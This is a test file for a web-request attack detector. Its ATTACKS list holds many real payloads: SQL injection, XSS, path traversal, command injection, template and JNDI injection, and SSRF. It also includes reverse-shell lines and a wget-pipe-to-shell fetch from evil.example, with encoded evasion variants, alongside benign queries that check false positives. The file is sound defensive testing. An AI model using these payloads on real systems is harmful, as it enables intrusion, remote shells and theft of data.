// The judge of one request against parameters of attacks and of ordinary use, both written for this test, and against hostile input.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { EcsEvent } from '../../events/event.js'
import { judgeRequest } from './judge-request.js'

const ATTACKS: readonly string[] = [
  "id=1' or 1=1--",
  "id=1' or 'x'='x",
  "id=admin'--",
  'id=1 and 1=1',
  'id=1%27%20AND%20SLEEP(5)--%20-',
  'id=-1 UNION SELECT 1,2,3--',
  'id=1/**/UNION/**/SELECT/**/1,2',
  'id=1;DROP TABLE users',
  'id=(select(0)from(select(sleep(15)))v)',
  'id=if(now()=sysdate(),sleep(15),0)',
  'id=1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)',
  "id='||(select 1)||'",
  'id=1 order by 10--',
  "user=' or ''='",
  "id=1' group by 1 having 1=1--",
  'id=convert(int,@@version)',
  'id=1 and (select count(*) from users)>0',
  'id=%df%27 or 1=1#',
  'q=<script>alert(1)</script>',
  'q="><img src=x onerror=alert(1)>',
  'q=javascript:alert(document.domain)',
  'q=<svg/onload=confirm`1`>',
  "q='-alert(1)-'",
  'q=%253Cscript%253Ealert(1)%253C/script%253E',
  'q=<a href="jav&#x09;ascript:alert(1)">x</a>',
  'q=<details open ontoggle=alert(1)>',
  'q=<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  'file=../../../../etc/passwd',
  'file=....//....//etc/passwd',
  'file=..%252f..%252f..%252fetc%252fpasswd',
  'file=/proc/self/environ',
  'file=php://filter/convert.base64-encode/resource=index.php',
  'file=C:\\windows\\win.ini',
  'file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  'page=http://evil.example/shell.txt?',
  'page=expect://id',
  'cmd=;id',
  'ip=127.0.0.1;cat /etc/passwd',
  'ip=127.0.0.1|whoami',
  'ip=127.0.0.1&&ls -la',
  'ip=$(id)',
  'ip=`id`',
  'ip=8.8.8.8%0aid',
  "ip=;c'a't /et''c/pas''swd",
  'ip=;cat${IFS}/etc/passwd',
  'ip=|/bin/ca? /etc/p?sswd',
  'ip=& ping -n 10 127.0.0.1 &',
  'ip=| net user',
  'x=;nc -e /bin/sh 10.0.0.1 4444',
  'x=bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
  'x=powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
  'x={{7*7}}',
  'x=${7*7}',
  'x=#{7*7}',
  'x=<%= 7*7 %>',
  'x={{config.items()}}',
  "x=${T(java.lang.Runtime).getRuntime().exec('id')}",
  'x=${jndi:ldap://evil.example/a}',
  'x=${${lower:j}ndi:${lower:l}dap://x/a}',
  'x=${${::-j}${::-n}${::-d}${::-i}:rmi://x}',
  "x=%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
  'x=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
  'x=O:8:"stdClass":1:{s:1:"a";i:1;}',
  'x=<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  'url=http://169.254.169.254/latest/meta-data/',
  'url=http://127.0.0.1:8080/admin',
  'url=gopher://127.0.0.1:6379/_INFO',
  'url=http://[::1]/',
  'url=http://2130706433/',
  'url=file:///etc/passwd',
  'user[$ne]=1',
  'filter={"$where":"sleep(1000)"}',
  'user=*)(uid=*))(|(uid=*',
  "x=system('id')",
  "x=eval(base64_decode('cGhwaW5mbygp'))",
  'x=assert($_POST[1])',
  'x=phpinfo()',
  'x=__proto__[admin]=1',
  "x=require('child_process').exec('id')",
  'x=%0d%0aSet-Cookie: a=b',
  "x=() { :;}; /bin/bash -c 'id'",
  "x=__import__('os').system('id')",
  'x=;wget http://evil.example/x.sh -O- | sh',
  'x=a;sleep 5',
  'x=a|sleep 5',
  "x=%27%3bwaitfor delay '0:0:5'--",
  'x=1 AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT user())))',
  "x=' UNION ALL SELECT NULL,NULL,NULL-- -",
  'x=1) or (1=1',
  "x=1' RLIKE SLEEP(5)#",
  "x=<?php system($_GET['c']); ?>",
  'x=../../../../windows/system32/drivers/etc/hosts',
  'x=<iframe src=javascript:alert(1)>',
  'x=<body/onpageshow=alert(1)>',
  'x=\\u003cscript\\u003ealert(1)',
  'x=1%20or%20updatexml(1,concat(0x7e,user()),0)',
  'x=${@print(md5(1))}',
  'x=@(1+2)',
  'x=*{7*7}',
  'x=[[${7*7}]]',
  'x=data:text/html;base64,PHNjcmlwdD4=',
  'x=vbscript:msgbox(1)',
]

const ORDINARY: readonly string[] = [
  'q=how to select a gift from the shop',
  'q=drop table lamp',
  'q=student union selects a president',
  "q=rock 'n' roll",
  "q='java' and 'course'",
  'q="java" or "python"',
  'q=price (usd)',
  'q=sum (a, b)',
  'q=f(x) = 2x',
  'q=C++ || C#',
  'q=a && b',
  'q=tom & jerry',
  'q=salt & pepper; fish & chips',
  'q=50% off; free shipping',
  'q=where is the cat',
  'q=cat /dog food',
  'q=ping pong',
  "q=what's new?",
  "q=don't stop",
  "q=O'Reilly & Sons",
  "q=l'équipe et l'homme",
  'q=x > 3 and y < 5',
  'q=if a then b else c',
  'q=for sale in (Beijing)',
  'q=script kiddie',
  'q=alert me when available',
  'q=eval board',
  'q=system design (2nd edition)',
  'q=file(1).pdf',
  'q=copy(2)',
  'q=report.pdf',
  'q=../',
  'q=1=1',
  'q=#hashtag',
  'q=$100 - $200',
  'q=$(1)',
  'q=mail@example.com',
  'q=50/50',
  'q=update set list',
  'q=delete from cart',
  'q=insert coin',
  'q=order by price',
  'q=group by tour',
  'q=having fun',
  'q=between 10 and 20',
  'q=like a virgin',
  'q=SELECT statement tutorial',
  'q=union of select committees',
  'q=exec summary; next steps',
  'q=root beer',
  'q=etc.',
  'q=admin',
  'q=passwd',
  'q=sleep (8 hours)',
  'q=sleep well; dream',
  'q=echo dot | alexa',
  'q=kill bill; vol 2',
  'q=C:\\Users',
  'q=document management',
  'q=window cleaning',
  'q=java.lang error',
  'q=onsale=1',
  'q=key=value&on=1',
  'q=<3',
  'q=a<b',
  'q=a <- b',
  'q=>>',
  'q=-->',
  'q={name}',
  'q={{name}}',
  'q=[a]',
  'q=価格(税込)',
  'q=价格（含税）; 优惠',
  "q=你好, 'world'",
  'redirect=/user/list',
  'redirect=https://www.example.com/path?x=1',
  'callback=jQuery1123_456',
  'token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_d',
  'data=eyJuYW1lIjoi5byg5LiJIiwiaWQiOjF9',
  'fields=id,name,(sub,x)',
  'sort=-created,+name',
  'range=[1 TO 5]',
  "filter=(status eq 'open') and (price gt 5)",
  "$filter=name eq 'abc'",
  '$select=id,name',
  'q=time to set the alarm; more',
  'q=net income',
  'q=c&a',
  'q=at&t wireless & more',
  'q=head & shoulders',
  'q=sort & find',
]

function event(original: string, agent?: string): EcsEvent {
  return {
    '@timestamp': '2026-11-24T00:00:00.000Z',
    event: { original: '', dataset: 'nginx.access', category: ['web'] },
    url: { original },
    user_agent: agent === undefined ? {} : { original: agent },
  }
}

/** As a browser writes a form; what is already encoded stays. */
function query(parameter: string): string {
  const equals = parameter.indexOf('=')
  if (/%[0-9a-f]{2}/i.test(parameter)) return parameter
  return `${parameter.slice(0, equals)}=${encodeURIComponent(parameter.slice(equals + 1)).replace(/%20/g, '+')}`
}

describe('the judge of a request', () => {
  it.each(ATTACKS)('sees the attack in %s', parameter => {
    expect(judgeRequest(event(`/page?${query(parameter)}`))).toBeDefined()
  })

  it.each(ORDINARY)('sees nothing in %s', parameter => {
    const equals = parameter.indexOf('=')
    const value = encodeURIComponent(parameter.slice(equals + 1)).replace(/%20/g, '+')
    expect(judgeRequest(event(`/page?${parameter.slice(0, equals)}=${value}`))).toBeUndefined()
  })

  it.each([
    ['double percent', '/p?q=%2527%2520or%25201%253D1--'],
    ['%u', '/p?q=%u003cscript%u003ealert(1)'],
    ['HTML entities', '/p?q=%26lt%3Bscript%26gt%3Balert(1)'],
    ['JavaScript escapes', '/p?q=%5Cu003cscript%5Cx3ealert(1)'],
    ['overlong UTF-8', '/p?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd'],
    ['Base64', `/p?q=${Buffer.from('<?php system($_GET["c"]); ?>').toString('base64')}`],
    ['comments in SQL', '/p?id=1%20un/**/ion%20sel/**/ect%201,2,3'],
    ['executable comments in SQL', '/p?id=1/*!50000union*/+/*!50000select*/+1,2'],
    ['full-width letters', `/p?q=${encodeURIComponent('＜script＞alert(1)')}`],
    ['a parameter name', '/p?%3Cscript%3E=1'],
    ['a path', "/p/1'%20or%20'1'='1"],
    ['a name of an exploit in capitals', '/CGI-BIN/.%2E/.%2E/etc/passwd'],
  ])('takes off %s', (_, original) => {
    expect(judgeRequest(event(original))).toBeDefined()
  })

  it('sees lookups and shellshock in the name of the browser, and no attack in the names browsers have', () => {
    const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0 Safari/537.36'

    expect(judgeRequest(event('/', '${jndi:ldap://x/a}'))?.kind).toBe('code-injection')
    expect(judgeRequest(event('/', '() { :; }; /bin/bash -c id'))?.kind).toBe('command-injection')
    expect(judgeRequest(event('/', chrome))).toBeUndefined()
  })

  it('never throws, whatever is asked for', () => {
    const pieces = [
      '%',
      '%2',
      '%25',
      '%u00',
      "'",
      '"',
      '(',
      ')',
      '{',
      '$',
      '<',
      '&',
      '=',
      ';',
      '\\',
      '/*',
      '*/',
      '../',
      ' or ',
      'select ',
      'a',
      '`',
    ]
    const part = fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 8 }))
    fc.assert(
      fc.property(fc.array(part, { maxLength: 60 }), fc.constantFrom('/', '/p?', '/p?a=', ''), (parts, start) => {
        const verdict = judgeRequest(event(start + parts.join('')))
        expect(verdict === undefined || verdict.signs.length > 0).toBe(true)
      }),
      { numRuns: 2_000, seed: 7 },
    )
  })
})
